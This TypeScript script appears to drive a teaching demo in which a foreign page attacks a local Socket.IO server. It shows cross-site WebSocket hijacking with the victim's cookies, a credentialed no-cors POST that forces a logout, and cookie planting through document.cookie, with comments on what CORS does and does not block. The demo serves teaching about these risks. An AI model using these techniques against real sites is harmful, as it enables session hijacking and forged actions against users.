// The foreign page's script: what it tries, and what the browser lets it see. Not to be copied.
import { io, type Socket } from 'socket.io-client';
import { button, find, tell } from './dom.ts';

const target = document.documentElement.dataset['target'] ?? '';
let socket: Socket | undefined;
let raw: WebSocket | undefined;

const cookieForm = find('#cookie', HTMLFormElement);

function show(): void {
  const open = socket?.connected || raw?.readyState === WebSocket.OPEN;
  find('#state', HTMLElement).textContent = open
    ? `${location.origin} has a connection to ${target}.`
    : `${location.origin} has no connection to ${target}.`;
}

// #region polling
/** The browser attaches the cookies, and then asks CORS whether this page may read the answer. */
function polling(): void {
  socket?.disconnect();
  const current = io(target, {
    transports: ['polling'],
    withCredentials: true,
    reconnection: false,
    forceNew: true,
  });
  socket = current;
  tell('A Socket.IO client asks, by polling, with credentials.');
  current.on('connect', () => {
    tell('connected: the server answered this origin', 'yes');
    show();
  });
  current.onAny((event, ...args) => tell(`heard ${event}: ${JSON.stringify(args)}`, 'yes'));
  current.on('connect_error', ({ message }) => {
    tell(
      `no connection: ${message}. The request went out; its answer is kept from this page.`,
      'no',
    );
    show();
  });
  current.on('disconnect', show);
}
// #endregion

// #region websocket
/** CORS has no say over a WebSocket: the handshake carries the cookies, and every frame is read. */
function webSocket(): void {
  raw?.close();
  const current = new WebSocket(
    `${target.replace(/^http/, 'ws')}/socket.io/?EIO=4&transport=websocket`,
  );
  raw = current;
  let opened = false;
  tell('A WebSocket opens, and the browser sends what cookies it has for localhost.');
  current.addEventListener('open', () => {
    opened = true;
    show();
  });
  current.addEventListener('message', ({ data }) => {
    if (data === '2') return current.send('3'); // ping and pong
    tell(`received ${data}`, 'yes');
    if (!String(data).startsWith('0')) return;
    current.send('40'); // CONNECT, with no token: the cookie is to do
    tell('sent 40');
  });
  current.addEventListener('close', ({ code }) => {
    const why = opened
      ? 'the connection ended'
      : 'the server did not open it, and the browser says no more';
    tell(`closed, ${code}: ${why}`, 'no');
    show();
  });
}
// #endregion

// #region requests
/** No header, and a type that a form may have: the browser sends it without asking first. */
async function logout(): Promise<void> {
  const { type, status } = await fetch(`${target}/logout`, {
    method: 'POST',
    mode: 'no-cors',
    credentials: 'include',
    headers: { 'Content-Type': 'text/plain' },
    body: '{}',
  });
  tell('POST /logout went out with the cookies.');
  tell(`Its answer is ${type}, status ${status}: nothing to read. Is anybody signed out now?`);
}

async function me(): Promise<void> {
  tell('GET /me goes out with the cookies.');
  try {
    const response = await fetch(`${target}/me`, { credentials: 'include' });
    tell(`read ${response.status}: ${await response.text()}`, 'yes');
  } catch (error) {
    tell(`nothing to read: ${error}. No CORS header gives this origin the answer.`, 'no');
  }
}
// #endregion

function plant(value: string, life = ''): void {
  const name = new FormData(cookieForm).get('name');
  const cookie = `${name}=${value}; path=/socket.io/${life}`;
  // biome-ignore lint/suspicious/noDocumentCookie: an attacker's script takes the oldest way in
  document.cookie = cookie;
  tell(`document.cookie = '${cookie}'`);
}

function on(id: string, work: () => unknown): void {
  button(id).addEventListener('click', async () => {
    try {
      await work();
    } catch (error) {
      tell(`It did not go out: ${error}. Is ${target} running?`, 'no');
    }
  });
}
on('#polling', polling);
on('#websocket', webSocket);
on('#logout', logout);
on('#me', me);
on('#remove', () => plant('', '; max-age=0'));
cookieForm.addEventListener('submit', (event) => {
  event.preventDefault();
  plant(String(new FormData(cookieForm).get('value')));
  tell(
    'A cookie belongs to a host, not to a port: it now goes with each handshake of the example.',
  );
});
find('#login', HTMLFormElement).addEventListener('submit', () => {
  tell('The form went out. The frame shows you the answer; this page cannot read it.');
});
show();
